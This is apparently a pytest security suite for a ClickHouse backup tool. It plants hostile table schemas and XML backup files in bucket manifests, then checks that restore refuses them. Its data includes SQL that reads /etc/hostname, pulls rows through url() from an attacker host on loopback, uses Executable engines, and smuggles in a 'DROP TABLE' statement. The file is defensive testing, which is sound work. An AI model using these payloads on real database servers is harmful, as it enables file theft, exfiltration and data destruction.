"""What a bucket says is hostile: nothing of it is executed, whatever the command."""

import json
import socket
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import pytest

from db_backup_harness import BACKUPS, LAYOUT, BackupTool

# What is hostile is refused by the engine, too: it is not for `make compat` to run it again.
pytestmark = pytest.mark.long


@pytest.fixture
def attacker() -> Iterator[str]:
    """The address of a server of the attacker's, to which nobody may ever connect."""
    with socket.create_server(("127.0.0.1", 0)) as server:
        yield f"http://127.0.0.1:{server.getsockname()[1]}"
        server.settimeout(0)
        with pytest.raises(BlockingIOError):  # nobody has
            server.accept()


@pytest.fixture
def hostile_tool(backup_tool: BackupTool) -> BackupTool:
    """A tool with an export and a backup of a table, and accounts that are nobody's business."""
    backup_tool.database.execute("CREATE TABLE accounts (x String) ENGINE = MergeTree ORDER BY x")
    backup_tool.database.execute("INSERT INTO accounts VALUES ('secret')")
    backup_tool.database.execute("CREATE TABLE a (x UInt64) ENGINE = MergeTree ORDER BY x")
    backup_tool.database.execute("INSERT INTO a VALUES (1)")
    backup_tool.keep_private(tables={"a": "both", "*": "none"})
    status, printed = backup_tool.run("run")
    assert status == 0, printed
    return backup_tool


def hostile_schemas(url: str, folder: Path) -> dict[str, str]:
    """Return schemas of a table by what is wrong with them."""
    file = folder / "stolen.csv"
    column, rest = "`x` UInt64", "ENGINE = MergeTree\nORDER BY tuple()"
    steal = f"SELECT * FROM url('{url}/', CSV, 'x UInt64')"
    calls = {
        "file": "length(file('/etc/hostname'))",
        "dictionary": "dictGet('secrets', 'x', 1)",
        "joined": "joinGet('accounts', 'x', 1)",
        "setting": "getSetting('max_threads')",
        "in a call": "plus(1, length(file('/etc/hostname')))",
        "in a lambda": "arrayMap(y -> length(file(y)), ['/etc/hostname'])[1]",
        "subquery": f"(SELECT count() FROM url('{url}/', CSV, 'x String'))",
        "IN": "x IN (accounts)",
        "quoted": "length(`file`('/etc/hostname'))",
        "look-alike": "length(f\uff49le('/etc/hostname'))",
    }
    places = {
        "DEFAULT": "`x` UInt64 DEFAULT {}",
        "MATERIALIZED": "`x` UInt64, `y` UInt64 MATERIALIZED {}",
        "ALIAS": "`x` UInt64, `y` UInt64 ALIAS {}",
        "INDEX": "`x` UInt64, INDEX i {} TYPE minmax GRANULARITY 1",
        "CHECK": "`x` UInt64, CONSTRAINT c CHECK {} < 0",
        "PROJECTION": "`x` UInt64, PROJECTION p (SELECT x, {} ORDER BY x)",
    }
    schemas = {
        f"{call} in {place}": f"CREATE TABLE d.a\n(\n    {places[place].format(sql)}\n)\n{rest}"
        for place, (call, sql) in zip(
            [*places, "DEFAULT", "DEFAULT", "MATERIALIZED", "CHECK"], calls.items(), strict=True
        )
    }
    tails = {
        "AS SELECT": f"{rest}\nAS {steal}",
        "AS SELECT of accounts": f"{rest} AS SELECT 1 AS x FROM accounts",
        "TTL": f"{rest}\nTTL toDateTime(length(file('/etc/hostname')))",
        "PARTITION BY": "ENGINE = MergeTree\nPARTITION BY file('/etc/hostname')\nORDER BY tuple()",
        "ORDER BY": "ENGINE = MergeTree\nORDER BY file('/etc/hostname')",
        "disk": f"{rest}\nSETTINGS disk = disk(type = web, endpoint = '{url}/')",
        "storage policy": f"{rest}\nSETTINGS storage_policy = 'default'",
        "comment": f"{rest}\nCOMMENT concat('a', file('/etc/hostname'))",
        "URL": f"ENGINE = URL('{url}/', 'CSV')",
        "File": f"ENGINE = File('CSV', '{file}')",
        "S3": f"ENGINE = S3('{url}/b/a.csv', 'CSV')",
        "Merge": "ENGINE = Merge(currentDatabase(), 'accounts')",
        "Distributed": "ENGINE = Distributed('default', currentDatabase(), 'accounts')",
        "Buffer": "ENGINE = Buffer(currentDatabase(), 'accounts', 1, 1, 1, 1, 1, 1, 1)",
        "Executable": "ENGINE = Executable('a.sh', 'CSV')",
        "RocksDB": f"ENGINE = EmbeddedRocksDB(0, '{folder}')\nPRIMARY KEY x",
        "two statements": f"{rest}; DROP TABLE accounts",
        "comment of SQL": f"{rest} -- a comment",
    }
    schemas |= {
        name: f"CREATE TABLE d.a\n(\n    {column}\n)\n{tail}" for name, tail in tails.items()
    }
    return schemas | {
        "function": f"CREATE TABLE FUNCTION url('{url}/', CSV, 'x UInt64')",
        "view": f"CREATE VIEW d.a AS {steal}",
        "materialized view": f"CREATE MATERIALIZED VIEW d.a TO d.accounts AS {steal}",
        "dictionary": f"CREATE DICTIONARY d.a (`x` UInt64) PRIMARY KEY x SOURCE(HTTP(URL '{url}/'))"
        " LIFETIME(1) LAYOUT(FLAT())",
        "nothing": "",
    }


def change(tool: BackupTool, bucket: str, key: str, edit: Callable[[Any], None]) -> None:
    """Change a document in a bucket."""
    document = json.loads(tool.client.get_object(Bucket=bucket, Key=key)["Body"].read())
    edit(document)
    tool.client.put_object(Bucket=bucket, Key=key, Body=json.dumps(document).encode())


def tables(tool: BackupTool) -> list[str]:
    """Return all tables of all databases that are not the server's own."""
    rows = tool.database.execute(
        "SELECT database || '.' || name FROM system.tables WHERE database NOT IN"
        " ('system', 'information_schema', 'INFORMATION_SCHEMA') ORDER BY 1"
    )
    return [name for (name,) in rows]


@pytest.mark.long
def test_no_schema_of_an_export_is_executed(
    hostile_tool: BackupTool, attacker: str, tmp_path: Path
) -> None:
    before = tables(hostile_tool)
    schemas = hostile_schemas(attacker, tmp_path)
    assert len(schemas) >= 25
    for name, schema in schemas.items():

        def edit(document: dict[str, Any], schema: str = schema) -> None:
            document["schema"] = schema

        change(hostile_tool, hostile_tool.bucket_name, LAYOUT.manifest("a"), edit)
        status, printed = hostile_tool.run("restore", "a", "--from", "exports", "--as", "back")
        assert status == 65, f"{name}: {printed}"
        assert "--trust-definitions" in printed
        assert tables(hostile_tool) == before, name
    assert not (tmp_path / "stolen.csv").exists()


@pytest.mark.parametrize(
    "kind", ["UInt64 DEFAULT length(file('/etc/hostname'))", "UInt64, y String", "Secret", ""]
)
def test_no_type_of_an_export_is_executed(hostile_tool: BackupTool, kind: str) -> None:
    change(
        hostile_tool,
        hostile_tool.bucket_name,
        LAYOUT.manifest("a"),
        lambda document: document.update(columns=[["x", kind]]),
    )
    assert hostile_tool.run("restore", "a", "--from", "exports", "--as", "back")[0] == 65


@pytest.mark.long
def test_no_definition_of_a_backup_is_executed(
    hostile_tool: BackupTool, attacker: str, tmp_path: Path
) -> None:
    before = tables(hostile_tool)
    (backup,) = hostile_tool.backups()
    for name, schema in hostile_schemas(attacker, tmp_path).items():

        def edit(document: dict[str, Any], schema: str = schema) -> None:
            document["tables"]["a"] |= {"schema": schema, "storage_schema": schema}
            document["definitions"]["a"] = schema

        manifest = BACKUPS.manifest(backup.name)
        change(hostile_tool, hostile_tool.private_bucket_name, manifest, edit)
        for command in (["restore", "a"], ["restore", "--all", "--to-database", "elsewhere"]):
            status, printed = hostile_tool.run(*command)
            assert status == 65, f"{name}: {command}: {printed}"
        assert hostile_tool.run("verify", "a", "--from", backup.name)[0] == 65, name
        hostile_tool.database.execute("DROP DATABASE IF EXISTS elsewhere SYNC")
        assert tables(hostile_tool) == before, name
    assert not (tmp_path / "stolen.csv").exists()


def test_a_view_of_an_unsigned_backup_is_shown_and_not_made(
    hostile_tool: BackupTool, attacker: str
) -> None:
    (backup,) = hostile_tool.backups()
    view = f"CREATE VIEW d.v AS SELECT * FROM url('{attacker}/\x1b[2J', CSV, 'x UInt64')"
    change(
        hostile_tool,
        hostile_tool.private_bucket_name,
        BACKUPS.manifest(backup.name),
        lambda document: document["definitions"].update(v=view),
    )
    status, printed = hostile_tool.run("restore", "--all", "--to-database", "elsewhere")
    try:
        assert status == 0, printed
        assert "v (its definition is not signed) is not made" in printed
        assert "CREATE VIEW d.v AS SELECT * FROM url(" in printed
        assert "\x1b" not in printed
        made = hostile_tool.database.execute("SHOW TABLES FROM elsewhere")
        assert ("v",) not in made
        assert ("a",) in made
    finally:
        hostile_tool.database.execute("DROP DATABASE IF EXISTS elsewhere SYNC")


def test_the_server_reads_no_base_that_is_elsewhere(
    hostile_tool: BackupTool, attacker: str
) -> None:
    (backup,) = hostile_tool.backups()
    key = BACKUPS.server_backup(backup.name, "incremental") + ".backup"
    original = hostile_tool.get_private(key)
    base = f"<base_backup>S3('{attacker}/b/')</base_backup><contents>".encode()
    elsewhere = original.replace(b"<contents>", base).replace(
        b"</size>", b"</size><use_base>true</use_base>"
    )
    assert elsewhere != original
    manifest = BACKUPS.manifest(backup.name)

    def forget(document: dict[str, Any]) -> None:
        document["parts"]["incremental"]["sha256"] = ""

    hostile_tool.client.put_object(Bucket=hostile_tool.private_bucket_name, Key=key, Body=elsewhere)
    for says in ("is not the one that was written", "has its base elsewhere"):
        for command in (["restore", "a"], ["verify", "--from", backup.name]):
            status, printed = hostile_tool.run(*command)
            assert status == 65, printed
            assert says in printed
        change(hostile_tool, hostile_tool.private_bucket_name, manifest, forget)


def test_nothing_hides_a_base_from_our_eyes_and_not_from_the_servers(
    hostile_tool: BackupTool, attacker: str
) -> None:
    (backup,) = hostile_tool.backups()
    path = BACKUPS.server_backup(backup.name, "incremental")
    key = path + ".backup"
    original = hostile_tool.get_private(key).replace(
        b"</size>", b"</size><use_base>true</use_base>"
    )
    own = f"S3('{hostile_tool.s3.endpoint}/{hostile_tool.private_bucket_name}/{path}"
    location = f"S3('{attacker}/b/')"

    def with_base(base: str) -> str:
        return original.decode().replace(
            "<contents>", f"<base_backup>{base}</base_backup><contents>"
        )

    variants = {
        "long": with_base(f"S3('{attacker}/bucket/{'b' * 5000}/')").encode(),
        "UTF-16": b"\xff\xfe" + with_base(location).encode("utf-16-le"),
        "UTF-16, declared": with_base(location).encode("utf-16"),
        "nested": with_base(f"<a>{location}</a>").encode(),
        "entity": with_base(location.replace("S3", "S&#51;")).encode(),
        "CDATA": with_base(f"<![CDATA[{location}]]>").encode(),
        "comment": with_base(location.replace("S3", "S<!-- -->3")).encode(),
        "attribute": with_base(location).replace("<base_backup>", '<base_backup a="b">').encode(),
        "arguments": with_base(f"{own}', '', '', url = '{attacker}/')").encode(),
        "endpoint": original.replace(
            b"<contents>",
            f"<original_endpoint>{attacker}</original_endpoint><contents>".encode(),
        ),
        "file": original.replace(b"<name>data/", b"<name>data/../"),
        "no XML": original[:-20],
    }
    change(
        hostile_tool,
        hostile_tool.private_bucket_name,
        BACKUPS.manifest(backup.name),
        lambda document: document["parts"]["incremental"].update(sha256=""),
    )
    before = tables(hostile_tool)
    for name, content in variants.items():
        hostile_tool.client.put_object(
            Bucket=hostile_tool.private_bucket_name, Key=key, Body=content
        )
        status, printed = hostile_tool.run("restore", "a")
        assert status == 65, f"{name}: {printed}"
        assert "--trust-definitions" in printed, f"{name}: {printed}"
        assert tables(hostile_tool) == before, name


@pytest.mark.parametrize(
    ("column", "order_by"),
    [("`x` UInt64 DEFAULT nope", "x"), ("`x` UInt64 DEFAULT 1 + *", "x"), ("`x` UInt64", "nope")],
)
def test_what_the_server_does_not_understand_stops_its_own_table_only(
    hostile_tool: BackupTool, column: str, order_by: str
) -> None:
    hostile_tool.database.execute("CREATE TABLE b (x UInt64) ENGINE = MergeTree ORDER BY x")
    hostile_tool.configure(tables={"a": "both", "b": "private", "*": "none"})
    assert hostile_tool.run("backup")[0] == 0
    name = hostile_tool.backups()[-1].name
    schema = f"CREATE TABLE d.a\n(\n    {column}\n)\nENGINE = MergeTree\nORDER BY {order_by}"

    def edit(document: dict[str, Any]) -> None:
        document["tables"]["a"] |= {"schema": schema, "storage_schema": schema}
        document["definitions"]["a"] = schema

    change(hostile_tool, hostile_tool.private_bucket_name, BACKUPS.manifest(name), edit)
    try:
        status, printed = hostile_tool.run("restore", "--all", "--to-database", "elsewhere")
        assert status == 65, printed
        assert ("b",) in hostile_tool.database.execute("SHOW TABLES FROM elsewhere")
    finally:
        hostile_tool.database.execute("DROP DATABASE IF EXISTS elsewhere SYNC")
    assert hostile_tool.run("verify", "--from", name)[0] == 65

    def edit_export(document: dict[str, Any]) -> None:
        document["schema"] = schema

    change(hostile_tool, hostile_tool.bucket_name, LAYOUT.manifest("a"), edit_export)
    assert hostile_tool.run("restore", "a", "--from", "exports", "--as", "back")[0] == 65


@pytest.mark.parametrize(
    "edit",
    [
        lambda document: document["tables"].update({"": document["tables"]["a"]}),
        lambda document: document["definitions"].update({"": "CREATE TABLE d.a"}),
        lambda document: document["tables"]["a"].update(columns=[]),
        lambda document: document.update(database=""),
    ],
)
def test_a_manifest_of_what_has_no_name_is_a_damaged_one(
    hostile_tool: BackupTool, edit: Callable[[dict[str, Any]], None]
) -> None:
    (backup,) = hostile_tool.backups()
    manifest = BACKUPS.manifest(backup.name)
    change(hostile_tool, hostile_tool.private_bucket_name, manifest, edit)
    status, printed = hostile_tool.run("restore", "a", "--from", backup.name)
    assert status == 65, printed
    assert "without a name or columns" in printed


@pytest.mark.parametrize("hash_of_rows", ["a", "-1", "1" * 5000])
def test_a_digest_that_is_no_number_makes_a_manifest_a_damaged_one(
    hostile_tool: BackupTool, hash_of_rows: str
) -> None:
    def edit(document: dict[str, Any]) -> None:
        for export in document["chunks"].values():
            export["fingerprint"]["hash"] = hash_of_rows

    change(hostile_tool, hostile_tool.bucket_name, LAYOUT.manifest("a"), edit)
    status, printed = hostile_tool.run("restore", "a", "--from", "exports", "--as", "back")
    assert status == 65, printed
    assert "damaged" in printed


def test_a_table_without_a_definition_is_refused(hostile_tool: BackupTool) -> None:
    (backup,) = hostile_tool.backups()
    change(
        hostile_tool,
        hostile_tool.private_bucket_name,
        BACKUPS.manifest(backup.name),
        lambda document: document["definitions"].pop("a"),
    )
    try:
        command = ("restore", "--all", "--schema-only", "--to-database", "elsewhere")
        status, printed = hostile_tool.run(*command)
        assert status == 65, printed
        assert "a: it has no definition" in printed
    finally:
        hostile_tool.database.execute("DROP DATABASE IF EXISTS elsewhere SYNC")


def test_a_table_of_another_engine_is_another_one(hostile_tool: BackupTool) -> None:
    hostile_tool.database.execute("DROP TABLE a SYNC")
    hostile_tool.database.execute("CREATE TABLE a (x UInt64) ENGINE = Log")
    status, printed = hostile_tool.run("restore", "--all")
    assert status == 78, printed
    assert "there already" in printed


def test_no_backup_stands_on_one_that_says_what_was_not_written(
    hostile_tool: BackupTool, attacker: str
) -> None:
    (backup,) = hostile_tool.backups()
    key = BACKUPS.server_backup(backup.name, "incremental") + ".backup"
    base = f"<base_backup>S3('{attacker}/bucket/b/')</base_backup><contents>".encode()
    content = hostile_tool.get_private(key).replace(b"<contents>", base)
    hostile_tool.client.put_object(Bucket=hostile_tool.private_bucket_name, Key=key, Body=content)
    hostile_tool.database.execute("INSERT INTO a VALUES (2)")
    status, printed = hostile_tool.run("backup")
    assert status == 65, printed
    assert "is not the one that was written" in printed
    assert [manifest.kind for manifest in hostile_tool.backups()] == ["full", "full"]
    assert hostile_tool.run("restore", "a")[0] == 0


def test_no_number_of_a_manifest_stops_the_backups(hostile_tool: BackupTool) -> None:
    (backup,) = hostile_tool.backups()
    change(
        hostile_tool,
        hostile_tool.private_bucket_name,
        BACKUPS.manifest(backup.name),
        lambda document: document.update(run=2**63 - 1),
    )
    hostile_tool.database.execute("INSERT INTO a VALUES (2)")
    status, printed = hostile_tool.run("backup")
    assert status == 0, printed


def test_a_collection_that_nobody_here_has_named_is_not_used(hostile_tool: BackupTool) -> None:
    (backup,) = hostile_tool.backups()
    change(
        hostile_tool,
        hostile_tool.private_bucket_name,
        BACKUPS.manifest(backup.name),
        lambda document: document.update(collection="somebody_elses"),
    )
    status, printed = hostile_tool.run("restore", "a")
    assert status == 78
    assert "private_named_collection" in printed
